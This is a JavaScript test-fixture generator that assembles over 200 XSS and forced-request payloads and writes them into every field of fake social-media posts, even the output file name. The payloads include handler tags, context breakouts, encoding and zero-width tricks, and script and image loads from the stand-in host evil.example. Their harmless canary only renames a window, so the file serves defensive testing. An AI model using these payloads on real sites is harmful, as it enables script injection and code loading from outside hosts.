// More than 200 ways in which strangers try to get a script to run or a request to be made, put together from parts:
// what they write, and around it what they break out of. Each calls the canary, which renames the window.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** A call without quotes or parentheses, so that it stands in any attribute or string. */
export const CANARY = 'window.runtime.WindowSetTitle`canary`';
export const ELSEWHERE = 'evil.example';

const HANDLERS = [
  ['img', 'src=x', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['iframe', 'src=about:blank', 'onload'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['object', 'data=x', 'onerror'],
  ['input', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['details', 'open', 'ontoggle'],
  ['marquee', '', 'onstart'],
  ['style', '', 'onload'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['script', 'src=x', 'onerror'],
  ['b', 'style=animation-name:spin', 'onanimationstart'],
  ['p', 'tabindex=1', 'onpointerenter'],
  ['dialog', 'open', 'oncontentvisibilityautostatechange'],
];

/** How an attack leaves the place that it was put in. */
const BREAKS = [
  (s) => s,
  (s) => `">${s}`,
  (s) => `'>${s}`,
  (s) => `</textarea></title></style>${s}`,
  (s) => `-->${s}<!--`,
  (s) => `\`}${s}{\``,
  (s) => s.replace('<', '\u003c\u0000').toUpperCase().replace(CANARY.toUpperCase(), CANARY),
];

const SCRIPTS = [
  `<script>${CANARY}</script>`,
  `<ScRiPt >${CANARY}</sCrIpT >`,
  `<script/x>${CANARY}</script>`,
  `<svg><script>${CANARY}</script></svg>`,
  `<math><mtext><style><img src=x onerror=${CANARY}></style></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${CANARY}>">`,
  `<template><script>${CANARY}</script></template>`,
  `<form><button formaction="javascript:${CANARY}">read on</button></form>`,
  `<isindex type=image src=1 onerror=${CANARY}>`,
  `<svg><animate onbegin=${CANARY} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${CANARY}/>#x"/></svg>`,
  `<object data="data:text/html,<script>parent.${CANARY}</script>"></object>`,
  `<embed src="javascript:${CANARY}">`,
  `<iframe srcdoc="<script>parent.${CANARY}</script>"></iframe>`,
  `<a href="javascript:${CANARY}">read</a>`,
  `<a href=" &#106;avascript:${CANARY}">read</a>`,
  `[read](javascript:${CANARY})`,
  `![x](x"onerror="${CANARY})`,
  `{@html "<img src=x onerror=${CANARY}>"}`,
  `{{constructor.constructor("${CANARY}")()}}`,
  `\${${CANARY}}`,
  `<%= ${CANARY} %>`,
  `#{${CANARY}}`,
  `';${CANARY};//`,
  `";${CANARY};//`,
  `\\u003cimg src=x onerror=${CANARY}\\u003e`,
  `&lt;img src=x onerror=${CANARY}&gt;`,
  `%3Cimg%20src%3Dx%20onerror%3D${CANARY}%3E`,
  `\u202e<img src=x onerror=${CANARY}>\u202c`,
  `<img src=x onerror=${CANARY}>`.split('').join('\u200b'),
];

const REQUESTS = [
  `<img src="https://${ELSEWHERE}/a.png">`,
  `<img srcset="https://${ELSEWHERE}/a.png 2x">`,
  `<link rel=dns-prefetch href="//${ELSEWHERE}">`,
  `<link rel=preconnect href="https://${ELSEWHERE}">`,
  `<link rel=prefetch href="https://${ELSEWHERE}/p">`,
  `<link rel=stylesheet href="https://${ELSEWHERE}/a.css">`,
  `<style>@import "https://${ELSEWHERE}/a.css"</style>`,
  `<b style="background:url(https://${ELSEWHERE}/b.png)">b</b>`,
  `<meta http-equiv=refresh content="0;url=https://${ELSEWHERE}">`,
  `<base href="https://${ELSEWHERE}/">`,
  `<iframe src="https://${ELSEWHERE}"></iframe>`,
  `<video poster="https://${ELSEWHERE}/v.png"></video>`,
  `<object data="https://${ELSEWHERE}/o.swf"></object>`,
  `<svg><image href="https://${ELSEWHERE}/i.png"/></svg>`,
  `<svg><filter><feImage href="https://${ELSEWHERE}/f.png"/></filter></svg>`,
  `<table background="https://${ELSEWHERE}/t.png"><tr><td>x</table>`,
  `<body background="https://${ELSEWHERE}/t.png">`,
  `<input type=image src="https://${ELSEWHERE}/n.png">`,
  `<audio src="https://${ELSEWHERE}/s.mp3" autoplay></audio>`,
  `<a href="https://${ELSEWHERE}" ping="https://${ELSEWHERE}/ping">x</a>`,
  `<form action="https://${ELSEWHERE}"><input name=q></form>`,
  `<script src="https://${ELSEWHERE}/x.js"></script>`,
  `<script type=module>import "https://${ELSEWHERE}/m.js"</script>`,
  `//${ELSEWHERE}/%0d%0aX: y`,
  `![x](https://${ELSEWHERE}/m.png)`,
];

export const ATTACKS = [
  ...HANDLERS.flatMap(([tag, attrs, on]) =>
    BREAKS.map((around) => around(`<${tag} ${attrs} ${on}=${CANARY}>`)),
  ),
  ...SCRIPTS,
  ...SCRIPTS.slice(0, 20).map((s) => `">${s}`),
  ...REQUESTS,
  ...REQUESTS.map((s) => `'>${s}`),
];

const START = Date.UTC(2025, 1, 3);

/** Writes one file of posts, each attack in every field of its post; the file has an attack for a name. */
export function writeAttacks(dir) {
  const path = join(dir, `"><img src=x onerror=${CANARY}>.jsonl`);
  const lines = ATTACKS.map((attack, i) => {
    const id = String(1_800_000_000_000_000_000n + BigInt(i));
    return JSON.stringify({
      data: {
        id,
        text: `attack ${attack}`,
        author_id: id,
        created_at: new Date(START + i * 600_000).toISOString(),
        conversation_id: id,
        lang: 'en',
        source: attack,
        geo: { place_id: attack },
        entities: {
          hashtags: [{ start: 0, end: 1, tag: attack }],
          mentions: [{ start: 0, end: 1, username: attack, id }],
          urls: [
            { start: 0, end: 1, url: attack, expanded_url: `javascript:${attack}`, display_url: attack },
            { start: 0, end: 1, url: attack, expanded_url: `https://${ELSEWHERE}/${attack}`, title: attack },
          ],
        },
        attachments: { media_keys: [id] },
        public_metrics: { retweet_count: i, reply_count: 0, like_count: i, quote_count: 0 },
      },
      includes: {
        users: [{ id, username: attack, name: attack, location: attack, description: attack }],
        places: [{ id: attack, full_name: attack, country: attack, country_code: attack }],
        media: [{ media_key: id, type: 'photo', url: `https://${ELSEWHERE}/${i}.png`, alt_text: attack }],
      },
    });
  });
  lines.push(`{"data":{"id":"broken","text":"${'<b>'.repeat(20)}`); // rejected, and its place is shown
  writeFileSync(path, `${lines.join('\n')}\n`);
  return path;
}
